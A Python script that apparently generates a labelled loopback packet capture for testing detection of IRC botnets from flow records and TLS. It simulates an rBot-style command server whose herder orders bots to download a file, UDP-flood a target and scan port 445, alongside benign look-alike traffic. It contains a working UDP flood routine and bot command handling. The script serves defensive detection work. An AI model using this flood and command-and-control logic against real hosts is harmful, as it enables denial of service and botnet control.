#!/usr/bin/env python3
"""Makes bottrace's flow-level capture: IRC bots a sensor may only know from flow records (conn.log,
Suricata flows, an open-connection log) or from TLS, with real server software on loopback (127.0.0.0/8).

    src/test/scripts/flow-corpus.py OUT_DIR [SECONDS]

writes OUT_DIR/capture.pcap and OUT_DIR/labels.json. Needs root, ngircd, dnsmasq, openssl and tcpdump.
It reuses vantage-corpus.py's servers and client (same folder).

The network (the company is 127.1.0.0/16):
- 127.0.0.30 irc.darkops.example, an rBot-style C&C (ngircd 26.1, 6667 and TLS on 6697 with a
  self-signed certificate): two company bots on 6667 and two on 6697, one herder outside. The herder's
  orders: a download from 127.0.0.60, a UDP flood of 127.0.0.99, a scan of 127.1.5.1-40 on 445/tcp.
  Every bot obeys each within a second.
- 127.0.0.10 irc.freechat.example, a public server (6667 and TLS on 6697): company people chatting (2),
  idling (1 on 6667, 2 on 6697) with people outside. Their sessions look like the bots' between
  orders: the same server software, the same keep-alive.
- Look-alikes of the bots' actions: the whole company (the people, the bots, four hosts without IRC)
  downloads the same update from 127.0.0.50 (download.updates.example, as Windows Update's agent does:
  a name, its user agent, a .cab) in the same minutes, and an administrator's host scans 127.1.5.1-40
  on 445 for an audit, alone.
Sessions stay open until the capture ends, except the two chatting people, who quit.
"""
import importlib.util
import os
import socket
import ssl
import subprocess
import sys
import threading
import time

here = os.path.dirname(os.path.abspath(__file__))
spec = importlib.util.spec_from_file_location("vc", os.path.join(here, "vantage-corpus.py"))
vc = importlib.util.module_from_spec(spec)
spec.loader.exec_module(vc)

OUT = os.path.abspath(sys.argv[1])
vc.DURATION = DURATION = float(sys.argv[2]) if len(sys.argv) > 2 else 900.0
rnd = vc.rnd
CC, PUBLIC, UPDATE, DROP, TARGET = "127.0.0.30", "127.0.0.10", "127.0.0.50", "127.0.0.60", "127.0.0.99"
KEY = "d4rk"
ORDERS = [(0.73, ".download http://127.0.0.60/upd.exe c:\\upd.exe 1"), (0.80, ".udpflood 127.0.0.99 300 512 20"),
          (0.87, ".scan 445 127.1.5.1 40")]


def ngircd_tls_conf(path, name, listen, cert, key):
    with open(path, "w") as f:
        f.write(f"""[Global]
Name = {name}
Info = {name}
Network = {name}
Listen = {listen}
Ports = 6667
MotdPhrase = "Welcome to {name}."
AdminInfo1 = test
AdminInfo2 = loopback
AdminEMail = root@localhost
[Limits]
MaxNickLength = 30
PingTimeout = 90
PongTimeout = 60
MaxConnectionsIP = 0
[Options]
DNS = no
Ident = no
PAM = no
[SSL]
CertFile = {cert}
KeyFile = {key}
Ports = 6697
""")


def start_servers(tmp):
    procs = []
    for name, listen in [("irc.darkops.example", CC), ("irc.freechat.example", PUBLIC)]:
        cert, key = os.path.join(tmp, name + ".crt"), os.path.join(tmp, name + ".key")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "30", "-subj",
                        "/CN=" + name, "-keyout", key, "-out", cert], check=True, stdout=subprocess.DEVNULL,
                       stderr=subprocess.DEVNULL)
        conf = os.path.join(tmp, name + ".conf")
        ngircd_tls_conf(conf, name, listen, cert, key)
        procs.append(subprocess.Popen(["ngircd", "-n", "-f", conf], stdout=subprocess.DEVNULL,
                                      stderr=subprocess.DEVNULL))
    procs.append(subprocess.Popen(["dnsmasq", "-k", "--no-resolv", "--no-hosts", "--listen-address=127.0.0.53",
                                   "--bind-interfaces", "--port=53", "--address=/irc.darkops.example/" + CC,
                                   "--address=/irc.freechat.example/" + PUBLIC,
                                   "--address=/download.updates.example/" + UPDATE, "--user=root",
                                   "--pid-file=" + os.path.join(tmp, "dnsmasq.pid")],
                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    for ip, files in [(UPDATE, [("kb5034441.cab", 262144, b"MSCF\x00\x00\x00\x00")]),
                      (DROP, [("upd.exe", 90112, b"MZ\x90\x00")])]:
        www = os.path.join(tmp, "www-" + ip)
        os.makedirs(www)
        for f, n, magic in files:
            with open(os.path.join(www, f), "wb") as o:
                o.write(magic + os.urandom(n - len(magic)))
        procs.append(subprocess.Popen([sys.executable, "-m", "http.server", "80", "--bind", ip, "--directory", www],
                                      stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
    time.sleep(1.5)
    return procs


class Client(vc.Client):
    """vantage-corpus's client, over TLS when tls is set (server name sent, certificate not checked, as
    bots and most IRC clients do with self-signed servers; bots at most TLS 1.2, so the certificate is
    visible to the sensor)."""

    def __init__(self, *a, tls=False, **kw):
        super().__init__(*a, **kw)
        self.tls = tls
        vc.LABELS["hosts"][-1]["tls"] = tls

    def connect(self):
        if not self.tls:
            return super().connect()
        if self.server_name:
            vc.resolve(self.src, self.server_name)
        raw = socket.socket()
        raw.bind((self.src, 0))
        raw.connect((self.server, self.port))
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        if self.role == "bot":
            ctx.maximum_version = ssl.TLSVersion.TLSv1_2  # a bot's old TLS library; people's clients use 1.3
        self.sock = ctx.wrap_socket(raw, server_hostname=self.server_name)
        threading.Thread(target=self.reader, daemon=True).start()
        if self.role == "bot":
            self.sock.sendall(f"NICK {self.nick}\r\nUSER {self.user} {self.mode} 0 :{self.realname}\r\n".encode())
        else:
            self.send("NICK " + self.nick)
            self.send(f"USER {self.user} {self.mode} * :{self.realname}")
        self.registered.wait(10)


def update_get(src):
    """Windows Update's agent fetching a cab by name (resolved first), from the host's own address."""
    import http.client
    ip = vc.resolve(src, "download.updates.example")
    conn = http.client.HTTPConnection(ip, 80, source_address=(src, 0), timeout=5)
    conn.request("GET", "/kb5034441.cab", headers={"Host": "download.updates.example",
                 "User-Agent": "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.0"})
    n = len(conn.getresponse().read())
    conn.close()
    vc.log("downloads", host=src, url="http://download.updates.example/kb5034441.cab", bytes=n)


def udp_flood(src, target, count, size, delay_ms):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((src, 0))
    payload = os.urandom(size)
    for _ in range(count):
        s.sendto(payload, (target, rnd.randrange(1024, 65535)))
        time.sleep(delay_ms / 1000.0)
    s.close()
    vc.log("floods", host=src, target=target, proto="udp", packets=count, size=size)


def bot(ip, nick, tls):
    c = Client("bot", ip, CC, 6697 if tls else 6667, nick, "".join(rnd.choice("abcdefghij") for _ in range(5)), nick,
               server_name="irc.darkops.example", tls=tls)
    c.connect()
    c.join("#dd", KEY)

    def on(prefix, cmd, args, trailing):
        if cmd != "PRIVMSG" or not trailing or not prefix.startswith("dkadmin!"):
            return
        w = trailing.split()
        delay = rnd.uniform(0.2, 0.9)
        if w[0] == ".download":
            vc.at(vc.rel() + delay, c.say, "#dd", f"[DOWNLOAD]: Downloading URL: {w[1]} to: {w[2]}.")
            vc.at(vc.rel() + delay + 0.2, vc.http_get, ip, w[1])
        elif w[0] == ".udpflood":
            vc.at(vc.rel() + delay, c.say, "#dd", f"[UDP]: Flooding: ({w[1]}) with {w[3]} byte packets.")
            vc.at(vc.rel() + delay + 0.1, udp_flood, ip, w[1], int(w[2]), int(w[3]), int(w[4]))
        elif w[0] == ".scan":
            first = w[2].rsplit(".", 1)
            targets = [f"{first[0]}.{int(first[1]) + i}" for i in range(int(w[3]))]
            vc.at(vc.rel() + delay, c.say, "#dd", f"[SCAN]: Port scan started on {w[2]}:{w[1]}.")
            vc.at(vc.rel() + delay + 0.1, vc.scan, ip, targets, int(w[1]))
        vc.log("replies", host=ip, command=w[0], delay=round(delay, 3))
    c.handlers.append(on)
    while c.alive and vc.rel() < DURATION:
        time.sleep(10)


def herder():
    c = Client("herder", "127.0.0.40", CC, 6667, "dkadmin", "adm", "adm", server_name="irc.darkops.example")
    c.connect()
    c.join("#dd")
    time.sleep(0.7)
    c.send(f"MODE #dd +smntk {KEY}")
    for share, cmd in ORDERS:
        vc.at(DURATION * share, c.say, "#dd", cmd)
        vc.at(DURATION * share, vc.log, "commands", server=CC, channel="#dd", command=cmd)
    while c.alive and vc.rel() < DURATION:
        time.sleep(10)


def person(ip, nick, tls, chatty, quits_at=None):
    c = Client("person", ip, PUBLIC, 6697 if tls else 6667, nick, nick, nick.title(),
               server_name="irc.freechat.example", tls=tls)
    c.connect()
    time.sleep(vc.lognormal(2.0, 0.3))
    c.join("#lounge")
    end = quits_at or DURATION
    while c.alive and vc.rel() < end:
        time.sleep(vc.lognormal(40.0, 0.7) if chatty else 30)
        if chatty and vc.rel() < end:
            c.say("#lounge", rnd.choice(vc.CHAT))
    if quits_at:
        c.send("QUIT :bye")


def schedule():
    vc.LABELS.update({"floods": [], "home_net": "127.1.0.0/16", "servers": [
        {"ip": CC, "ports": [6667, 6697], "role": "cc_server", "name": "irc.darkops.example", "channel": "#dd"},
        {"ip": PUBLIC, "ports": [6667, 6697], "role": "irc_server", "name": "irc.freechat.example"},
        {"ip": UPDATE, "port": 80, "role": "update_server", "name": "download.updates.example"},
        {"ip": DROP, "port": 80, "role": "download_server"},
        {"ip": TARGET, "role": "flood_target"}]})
    vc.at(2, herder)
    for i, (ip, nick, tls) in enumerate([("127.1.0.11", "[DEU|XP]-58211", False), ("127.1.0.12", "[USA|XP]-90331", False),
                                         ("127.1.0.13", "[FRA|2K]-11873", True), ("127.1.0.14", "[NLD|XP]-40967", True)]):
        vc.at(8 + i * rnd.uniform(4, 9), bot, ip, nick, tls)
    for ip, nick in [("127.0.1.1", "jonas"), ("127.0.1.2", "lea")]:
        vc.at(rnd.uniform(3, 12), person, ip, nick, False, True)
    for ip, nick, tls, chatty, quits in [("127.1.0.21", "mika", False, True, 0.95), ("127.1.0.22", "rosa", False, True, 0.93),
                                         ("127.1.0.23", "idler", False, False, None),
                                         ("127.1.0.24", "tilde", True, False, None),
                                         ("127.1.0.25", "quietone", True, False, None)]:
        vc.at(rnd.uniform(4, 30), person, ip, nick, tls, chatty, DURATION * quits if quits else None)
    # patch day: every company host fetches the same update within two minutes
    everyone = [f"127.1.0.{i}" for i in (11, 12, 13, 14, 21, 22, 23, 24, 25, 31, 32, 33, 34)]
    for ip in everyone:
        vc.at(DURATION * 0.76 + rnd.uniform(0, 120), update_get, ip)
    # an audit of the same addresses the bots are told to scan, by an administrator's host with no IRC
    vc.at(DURATION * 0.91, vc.scan, "127.1.0.30", [f"127.1.5.{i}" for i in range(1, 41)], 445)


if __name__ == "__main__":
    vc.capture(OUT, start_servers, schedule, prefix="bottrace-flows-")
